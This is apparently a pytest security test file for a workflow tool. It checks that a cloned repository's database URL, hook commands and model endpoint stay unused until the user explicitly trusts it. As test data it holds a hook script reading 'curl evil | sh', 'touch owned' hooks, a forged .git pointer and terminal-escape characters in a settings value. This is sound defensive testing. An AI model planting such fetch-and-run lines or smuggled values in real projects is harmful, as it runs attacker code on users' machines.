"""A clone whose settings name a server, a hook or a model: nothing of it is reached before the user trusts it."""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import pytest

from agentos import Client, Workflow, resume, run
from agentos.exceptions import CommandRefusedError, UntrustedSettingsError, WorkflowConfigurationError
from agentos.workflow.place.settings import KINDS
from agentos.workflow.place.trust import HARMLESS, find_reaching, list_trusted, trusted_since
from tests.cli.conftest import SOURCES, Agentos, agentos
from tests.cli.runs import complete, waiting
from tests.conftest import LinkedWorktree, git, trust
from tests.models.server import ModelServer

__all__ = ["agentos"]

pytestmark = pytest.mark.attack

FLOW = "name: hello\ntasks:\n  a: {run: echo hi}\n"
MODEL = "name: ask\ntasks:\n  a: {llm: m, prompt: hi}\n"


class Server:
    """Stands where a clone's settings say a PostgreSQL server is, and notes whatever reaches it."""

    def __init__(self, listener: socket.socket) -> None:
        self.port = listener.getsockname()[1]
        self.reached = 0
        self._listener = listener
        threading.Thread(target=self._accept, daemon=True).start()

    @property
    def url(self) -> str:
        return f"postgresql://ada:in-the-file@127.0.0.1:{self.port}/db"

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            self.reached += 1
            connection.close()


@contextmanager
def listening() -> Iterator[Server]:
    with closing(socket.create_server(("127.0.0.1", 0))) as listener:
        yield Server(listener)


@pytest.fixture
def server() -> Iterator[Server]:
    with listening() as one:
        yield one


@pytest.fixture
def clone(tmp_git_repo: Path, server: Server) -> Path:
    """A clone with a workflow, whose settings name the server."""
    (tmp_git_repo / "agentos.toml").write_text(f'database = "{server.url}"\n')
    (tmp_git_repo / "workflows").mkdir()
    (tmp_git_repo / "workflows" / "hello.yaml").write_text(FLOW)
    return tmp_git_repo


def untouched(root: Path) -> bool:
    return not (root / ".agentos").exists()


# --- a server ---------------------------------------------------------------------------------------------------------

NEED_IT = [
    ["list"],
    ["list", "--all"],
    ["show"],
    ["show", "x"],
    ["inbox"],
    ["logs", "x"],
    ["events", "x"],
    ["why", "x", "a"],
    ["checkpoints", "x"],
    ["diff", "x", "y"],
    ["graph", "some-run"],
    ["run", "hello"],
    ["resume"],
    ["resume", "x", "--dry-run"],
    ["resume", "--all"],
    ["fork", "x"],
    ["watch", "x"],
    ["worker", "--once"],
    ["issue", "--all", "--dry-run"],
    ["approve", "x"],
    ["reject", "x"],
    ["pause", "x"],
    ["abort", "x"],
    ["send", "x", '{"type": "pause"}'],
    ["prune", "--all"],
    ["delete", "x", "--yes"],
    ["export", "x"],
    ["db", "stats"],
    ["db", "migrate", "--dry-run"],
]


def test_every_command_that_needs_the_server_refuses_and_shows_it(
    agentos: Agentos, clone: Path, server: Server, tmp_path: Path
) -> None:
    complete(git_repository(tmp_path / "mine"), id="mine")  # what the index knows must not stand in
    for words in NEED_IT:
        done = agentos(*words, cwd=clone, env={"PGPASSWORD": "of the user"})
        assert (done.code, done.out) == (1, ""), (words, done)
        assert f"postgresql://ada:***@127.0.0.1:{server.port}/db" in done.err, (words, done.err)
        assert "`agentos trust`" in done.err
        assert "in-the-file" not in done.err
    assert (server.reached, untouched(clone)) == (0, True)


def test_doctor_shows_it_and_connects_nowhere(agentos: Agentos, clone: Path, server: Server) -> None:
    done = agentos("doctor", cwd=clone)
    assert (done.code, "agentos trust" in done.out, server.url in done.out) == (1, True, False)
    told = json.loads(agentos("doctor", "--json", "--deep", cwd=clone).out)
    assert told["trust"]["since"] == ""
    assert "127.0.0.1" in told["trust"]["settings"][0]
    assert server.reached == 0
    assert agentos("doctor", "--set-aside", cwd=clone).code == 2
    assert (server.reached, untouched(clone)) == (0, True)


def test_what_needs_no_server_goes_on(agentos: Agentos, clone: Path, server: Server) -> None:
    for words in (
        ["check", "hello"],
        ["graph", "hello"],
        ["schema"],
        ["--help"],
        ["db", "path"],
        ["init", "other"],
        ["completion", "bash"],
        ["trust", "--list"],
        ["prove", "hello"],
    ):
        assert agentos(*words, cwd=clone).code == 0, words
    assert (server.reached, untouched(clone)) == (0, True)


@pytest.mark.parametrize("trusted", [True, False])
@pytest.mark.parametrize("variable", [True, False])
def test_completion_never_connects(
    agentos: Agentos, clone: Path, server: Server, trusted: bool, variable: bool
) -> None:
    if trusted:
        assert agentos("trust", "--yes", cwd=clone).code == 0
    env = {"AGENTOS_WORKFLOW_DB": server.url} if variable else {}
    for typed in ("show ", "approve x ", "why x ", "fork ", "run h"):
        words = f"agentos {typed}"
        asked = {"_AGENTOS_COMPLETE": "bash_complete", "COMP_WORDS": words, "COMP_CWORD": str(words.count(" "))}
        done = agentos(cwd=clone, env={**asked, **env})
        assert (done.code, done.err) == (0, "")
    assert server.reached == 0


def test_python_refuses_as_well(clone: Path, server: Server) -> None:
    flow = Workflow("hello")
    flow.add("a", lambda: 1)
    for call in (lambda: run(flow, repo=clone), lambda: resume(repo=clone), lambda: Client(clone)):
        with pytest.raises(UntrustedSettingsError, match=r"127\.0\.0\.1") as refused:
            call()
        assert isinstance(refused.value, WorkflowConfigurationError)
        assert f"agentos trust --repo {clone}" in refused.value.next_step
    assert (server.reached, untouched(clone)) == (0, True)


def test_the_script_of_the_issue_workflow_refuses_as_well(clone: Path, server: Server) -> None:
    script = SOURCES.parent / "tools" / "run_issue_workflow.py"
    done = subprocess.run([sys.executable, script, "--all"], cwd=clone, capture_output=True, text=True)
    assert (done.returncode, "agentos trust" in done.stderr) == (1, True), done.stderr
    assert (server.reached, untouched(clone)) == (0, True)


def test_the_users_own_variable_needs_no_trust(agentos: Agentos, clone: Path, server: Server, tmp_path: Path) -> None:
    own = {"AGENTOS_WORKFLOW_DB": str(tmp_path / "mine" / "own.db")}
    assert agentos("run", "hello", cwd=clone, env=own).code == 0
    assert server.reached == 0
    assert agentos("list", cwd=clone, env={"AGENTOS_WORKFLOW_DB": server.url}).code != 1
    assert server.reached > 0


def test_once_trusted_it_is_used(agentos: Agentos, clone: Path, server: Server) -> None:
    shown = agentos("trust", "--yes", cwd=clone)
    assert shown.code == 0
    assert f"***@127.0.0.1:{server.port}" in shown.out
    assert "in-the-file" not in shown.out
    assert agentos("list", cwd=clone).code != 1
    assert server.reached > 0
    assert json.loads(agentos("doctor", "--json", cwd=clone).out)["trust"]["since"]


# --- which repository, which content ----------------------------------------------------------------------------------


def git_repository(root: Path) -> Path:
    root.mkdir(parents=True)
    git("init", "--quiet", "--initial-branch=main", cwd=root)
    git("-c", "user.name=x", "-c", "user.email=x@x", "commit", "--quiet", "--allow-empty", "-m", "x", cwd=root)
    return root


def is_trusted(root: Path) -> bool:
    reaching = find_reaching(root.resolve())
    assert reaching is not None
    return trusted_since(reaching) is not None


SETTINGS = 'database = "postgresql://host/db"\non_end = ["./tools/tell", "end"]\n'


@pytest.fixture
def accepted(tmp_worktree: LinkedWorktree) -> LinkedWorktree:
    for root in tmp_worktree:
        (root / "agentos.toml").write_text(SETTINGS)
        (root / "tools").mkdir()
        (root / "tools" / "tell").write_text("#!/bin/sh\n")
    trust(tmp_worktree.main)
    return tmp_worktree


def test_worktrees_share_it_and_clones_copies_and_moves_do_not(accepted: LinkedWorktree, tmp_path: Path) -> None:
    main, worktree = accepted
    assert is_trusted(main)
    assert is_trusted(worktree)
    git("add", ".", cwd=main)
    git("commit", "--quiet", "-m", "settings", cwd=main)
    git("clone", "--quiet", str(main), str(tmp_path / "clone"), cwd=tmp_path)
    shutil.copytree(main, tmp_path / "copy", symlinks=True)
    (tmp_path / "link").symlink_to(main)
    assert not is_trusted(tmp_path / "clone")
    assert not is_trusted(tmp_path / "copy")
    assert is_trusted(tmp_path / "link"), "the same repository, by another name"
    main.rename(tmp_path / "moved")
    assert not is_trusted(tmp_path / "moved")


def test_a_folder_that_only_claims_to_be_a_worktree_is_another_one(accepted: LinkedWorktree, tmp_path: Path) -> None:
    """An unpacked archive may bring a `.git` file that points at somebody's repository."""
    for number, claimed in enumerate((accepted.main / ".git", accepted.main / ".git" / "worktrees" / "worktree")):
        hostile = tmp_path / f"hostile-{number}"
        shutil.copytree(accepted.main, hostile, ignore=shutil.ignore_patterns(".git"))
        (hostile / ".git").write_text(f"gitdir: {claimed}\n")
        assert git("rev-parse", "--show-toplevel", cwd=hostile) == str(hostile), "git believes it"
        assert not is_trusted(hostile)


def test_worktrees_of_a_bare_repository_share_it(tmp_path: Path, tmp_git_repo: Path) -> None:
    bare = tmp_path / "bare.git"
    git("clone", "--quiet", "--bare", str(tmp_git_repo), str(bare), cwd=tmp_path)
    roots = [tmp_path / "one", tmp_path / "two"]
    for root in roots:
        git("worktree", "add", "--quiet", "--detach", str(root), cwd=bare)
        (root / "agentos.toml").write_text('on_end = ["true"]\n')
    assert not is_trusted(roots[1])
    trust(roots[0])
    assert is_trusted(roots[1])


def test_a_submodule_is_a_repository_of_its_own(accepted: LinkedWorktree, tmp_path: Path) -> None:
    inner = git_repository(tmp_path / "inner")
    main = accepted.main
    git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add", str(inner), "sub", cwd=main)
    shutil.copytree(main / "tools", main / "sub" / "tools")
    (main / "sub" / "agentos.toml").write_text(SETTINGS)
    assert is_trusted(main)
    assert not is_trusted(main / "sub")


@pytest.mark.parametrize("command", ['["sh", "-c", "./tell end"]', '["env", "--split-string=./tell end"]'])
def test_a_changed_script_inside_an_argument_is_asked_about_again(tmp_git_repo: Path, command: str) -> None:
    (tmp_git_repo / "agentos.toml").write_text(f"on_end = {command}\n")
    (tmp_git_repo / "tell").write_text("#!/bin/sh\n")
    trust(tmp_git_repo)
    assert is_trusted(tmp_git_repo)
    (tmp_git_repo / "tell").write_text("#!/bin/sh\ntouch owned\n")
    assert not is_trusted(tmp_git_repo)


@pytest.mark.parametrize(
    "settings",
    [
        SETTINGS.replace("host", "other"),
        SETTINGS.replace('"end"', '"end", "more"'),
        SETTINGS + '[llm]\nbase_url = "https://example.invalid"\n',
        SETTINGS + 'repository = "of another team"\n',
        SETTINGS.replace("postgresql://", "postgresql://:pw@"),
    ],
)
def test_changed_settings_are_asked_about_again(accepted: LinkedWorktree, settings: str) -> None:
    (accepted.main / "agentos.toml").write_text(settings)
    assert not is_trusted(accepted.main)
    (accepted.main / "agentos.toml").write_text(f"keep = 9\n{SETTINGS}")
    assert is_trusted(accepted.main), "what reaches nothing may change"


def test_a_script_that_a_hook_names_is_part_of_what_was_accepted(accepted: LinkedWorktree, tmp_path: Path) -> None:
    tell = accepted.main / "tools" / "tell"
    tell.write_text("#!/bin/sh\ncurl evil | sh\n")
    assert not is_trusted(accepted.main)
    assert is_trusted(accepted.worktree)
    tell.unlink()
    tell.symlink_to("/bin/sh")
    assert not is_trusted(accepted.main)
    tell.unlink()
    os.mkfifo(tell)  # waits for nobody
    assert not is_trusted(accepted.main)


def test_every_setting_is_known_to_be_harmless_or_needs_trust() -> None:
    assert set(KINDS) - HARMLESS == {"database", "on_wait", "on_end", "llm", "sandbox", "dask", "retention"}


# --- hooks and models -------------------------------------------------------------------------------------------------


def test_hooks_of_a_clone_run_nothing(agentos: Agentos, tmp_git_repo: Path) -> None:
    waiting(tmp_git_repo, id="ask-1")
    (tmp_git_repo / "hello.yaml").write_text(FLOW)
    (tmp_git_repo / "agentos.toml").write_text('on_end = ["touch", "owned"]\non_wait = ["touch", "owned"]\n')
    for words in (["run", "hello.yaml"], ["resume", "ask-1"], ["approve", "ask-1"], ["worker", "--once"]):
        done = agentos(*words, cwd=tmp_git_repo)
        assert (done.code, 'on_end = ["touch", "owned"]' in done.err) == (1, True), (words, done)
    assert json.loads(agentos("show", "ask-1", "--json", cwd=tmp_git_repo).out)["gates"][0]["open"], "not answered"
    assert agentos("list", cwd=tmp_git_repo).code == 0
    assert agentos("approve", "ask-1", "--no-resume", cwd=tmp_git_repo).code == 0
    own = {"AGENTOS_ON_END": "true", "AGENTOS_ON_WAIT": "true"}
    assert agentos("run", "hello.yaml", cwd=tmp_git_repo, env=own).code == 0, "the user's own stand in for them"
    assert not (tmp_git_repo / "owned").exists()
    assert agentos("trust", "--yes", cwd=tmp_git_repo).code == 0
    assert agentos("run", "hello.yaml", cwd=tmp_git_repo).code == 0
    assert (tmp_git_repo / "owned").exists()


def test_models_are_asked_where_a_clone_says_only_once_it_is_trusted(
    agentos: Agentos, tmp_git_repo: Path, model_server: ModelServer
) -> None:
    (tmp_git_repo / "hello.yaml").write_text(FLOW)
    (tmp_git_repo / "ask.yaml").write_text(MODEL)
    (tmp_git_repo / "own.yaml").write_text(MODEL.replace("llm: m", f"llm: m, base_url: '{model_server.base_url}'"))
    (tmp_git_repo / "grows.yaml").write_text(
        'name: g\ntasks:\n  a: {run: "echo hi"}\n  b: {run: "sleep 0.1", approve: "On?", needs: a}\n'
    )
    (tmp_git_repo / "agentos.toml").write_text(
        f'[llm]\nbase_url = "{model_server.base_url}"\nkey_name = "A_SECRET_OF_MINE"\n'
    )
    env = {"A_SECRET_OF_MINE": "never-to-be-sent"}
    assert agentos("run", "hello.yaml", cwd=tmp_git_repo, env=env).code == 0, "asks no model"
    done = agentos("run", "ask.yaml", "--id", "r", cwd=tmp_git_repo, env=env)
    assert (done.code, "A_SECRET_OF_MINE" in done.err, "agentos trust" in done.err) == (1, True, True)
    added = json.dumps({"type": "inject_tasks", "tasks": {"new": {"llm": "m", "prompt": "hi"}}})
    assert agentos("run", "grows.yaml", "--id", "g", cwd=tmp_git_repo, env=env).code == 3
    assert agentos("send", "g", added, cwd=tmp_git_repo, env=env).code == 0
    done = agentos("approve", "g", cwd=tmp_git_repo, env=env)
    assert (done.code, "agentos trust" in done.out + done.err) == (1, True), "a task that came later"
    assert not model_server.requests
    assert agentos("run", "own.yaml", cwd=tmp_git_repo, env=env).code == 1, "its key would be the one of the settings"
    assert not model_server.requests
    assert agentos("trust", "--yes", cwd=tmp_git_repo).code == 0
    assert agentos("run", "ask.yaml", "--id", "r", cwd=tmp_git_repo, env=env).code == 0
    assert model_server.requests


# --- the record -------------------------------------------------------------------------------------------------------


def test_a_record_that_others_may_write_is_not_believed(accepted: LinkedWorktree) -> None:
    folder = Path(os.environ["XDG_STATE_HOME"]) / "agentos" / "trust"
    [record] = folder.iterdir()
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    for path, mode in ((folder, 0o777), (record, 0o666)):
        before = stat.S_IMODE(path.stat().st_mode)
        path.chmod(mode)
        assert not is_trusted(accepted.main)
        path.chmod(before)
    assert is_trusted(accepted.main)
    text = record.read_bytes()
    for junk in (b"", b"{", text[:-5], b"[" * 100_000, text.replace(b'"digest":"', b'"digest":"0')):
        record.write_bytes(junk)
        assert not is_trusted(accepted.main)
    record.unlink()
    record.symlink_to(accepted.main / "README")
    assert not is_trusted(accepted.main)
    record.unlink()
    os.mkfifo(record)
    assert not is_trusted(accepted.main)


@pytest.mark.parametrize("state", ["relative", "inside"])
def test_a_repository_cannot_bring_its_own_record(
    accepted: LinkedWorktree, monkeypatch: pytest.MonkeyPatch, home: Path, state: str
) -> None:
    main = accepted.main
    shutil.copytree(os.environ["XDG_STATE_HOME"], main / "state")
    monkeypatch.chdir(main)
    monkeypatch.setenv("XDG_STATE_HOME", "state" if state == "relative" else str(main / "state"))
    assert not is_trusted(main)
    if state == "inside":
        with pytest.raises(WorkflowConfigurationError, match="inside this repository"):
            trust(main)


def test_many_at_once(agentos: Agentos, accepted: LinkedWorktree) -> None:
    (accepted.main / "agentos.toml").write_text('on_end = ["true"]\n')
    command = [sys.executable, "-m", "agentos", "trust", "--yes"]
    env = {**os.environ, "PYTHONPATH": str(SOURCES)}
    started = [subprocess.Popen(command, cwd=accepted.main, env=env, stderr=subprocess.PIPE) for _ in range(6)]
    assert [process.wait() for process in started] == [0] * 6
    for process in started:
        assert process.stderr is not None
        process.stderr.close()
    assert is_trusted(accepted.main)
    assert len(list_trusted()) == 2
    assert agentos("trust", "--revoke", cwd=accepted.worktree).code == 0, "worktrees share that, too"
    assert list_trusted() == []
    assert not is_trusted(accepted.main)


def test_a_task_does_not_trust_for_its_user(agentos: Agentos, tmp_git_repo: Path) -> None:
    (tmp_git_repo / "flow.yaml").write_text(
        f"name: x\ntasks:\n  a: {{run: '{sys.executable} -m agentos trust --yes 2> said || echo $? > code'}}\n"
    )
    assert agentos("run", "flow.yaml", cwd=tmp_git_repo).code == 0
    (tmp_git_repo / "agentos.toml").write_text('on_end = ["true"]\n')
    own = {"AGENTOS_ON_END": "true"}
    assert agentos("run", "flow.yaml", cwd=tmp_git_repo, env=own).code == 0
    assert (tmp_git_repo / "code").read_text().strip() == "2"
    assert "from inside a run" in (tmp_git_repo / "said").read_text()
    assert not is_trusted(tmp_git_repo)


def test_a_task_does_not_trust_from_python(tmp_git_repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_git_repo / "agentos.toml").write_text('on_end = ["true"]\n')
    monkeypatch.setenv("AGENTOS_ATTEMPT_ID", "run/task/1")
    with pytest.raises(CommandRefusedError):
        trust(tmp_git_repo)


def test_without_a_terminal_nothing_is_accepted_unasked(agentos: Agentos, clone: Path) -> None:
    done = agentos("trust", cwd=clone, input="y\n")
    assert (done.code, "--yes" in done.err) == (2, True)
    assert not is_trusted(clone)
    told = agentos("trust", "--json", cwd=clone)
    assert (told.code, json.loads(told.out)[0]["trusted"]) == (2, False)


def test_what_is_shown_acts_on_no_terminal(agentos: Agentos, tmp_git_repo: Path) -> None:
    (tmp_git_repo / "agentos.toml").write_text(r'on_end = ["a\u001b[2J\u009b2J\u202e", "two\nlines = 1"]' + "\n")
    for words in (["trust"], ["trust", "--yes"], ["trust", "--list"], ["doctor"]):
        done = agentos(*words, cwd=tmp_git_repo)
        assert all(character.isprintable() or character == "\n" for character in done.out + done.err), words
        assert "\nlines = 1" not in done.out + done.err
